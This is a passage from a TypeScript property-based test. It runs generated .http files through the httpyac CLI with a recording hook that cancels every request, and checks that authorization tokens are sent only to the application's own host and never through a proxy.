module.exports = { configureHooks: (api) => api.hooks.onRequest.addHook("record", (request, context) => {
  appendFileSync(${JSON.stringify(join(folder, "calls.jsonl"))}, JSON.stringify({ file: context.httpFile.fileName.toString(), line: context.httpRegion.symbol.startLine, end: context.httpRegion.symbol.endLine, url: request.url, auth: request.headers?.auth, proxy: request.proxy }) + "\\n");
  return api.getHookCancel();
}) };`;
      await writeFile(join(folder, ".httpyac.js"), hook);
      const files = new Map<string, string>();
      const texts = fc
        .sample(hostileFile, runs(2_000, { full: 20_000 }))
        .filter((text) => destinationsIn(text).some((each) => goesToOwnHost(each, app)));
      for (const [index, text] of texts.slice(0, IS_FULL ? 1_500 : 150).entries()) {
        const name = `${index}.http`;
        files.set(name, text);
        await writeFile(join(folder, name), text);
      }
      const script = join(dirname(createRequire(import.meta.url).resolve("httpyac/package.json")), "bin/httpyac.js");
      await promisify(execFile)(process.execPath, [script, "send", "*.http", "--all", "--silent"], {
        cwd: folder,
        timeout: PATIENCE.test,
        maxBuffer: 64 * 1024 * 1024,
      }).catch(() => undefined);
      const calls = (await readFile(join(folder, "calls.jsonl"), "utf8"))
        .trimEnd()
        .split("\n")
        .map(
          (line) =>
            JSON.parse(line) as { file: string; line: number; end: number; url: string; auth?: string; proxy?: string },
        );
      let seen = 0;
      for (const { file, line, end, url, auth, proxy } of calls) {
        const text = files.get(file.split("/").at(-1) ?? "") ?? assert.fail(file);
        const certain = destinationsIn(text).find(
          (each) => each.line >= line && each.line <= end && goesToOwnHost(each, app),
        );
        if (!certain) continue;
        seen++;
        const isOwn = URL.canParse(url) && new URL(url).origin === `https://${OWN}`;
        // A comment of httpYac's alone hides what REST Client sends, the token with it, and something else is called.
        const isHidden = auth === undefined && text.includes("/*");
        assert.ok(isOwn || isHidden, `${url} is called by\n${text}`);
        assert.equal(proxy, undefined, text);
      }
      assert.ok(seen > 50, `only ${seen} requests were seen`);
    } finally {
      await rm(folder, { recursive: true });
    }
  });
});
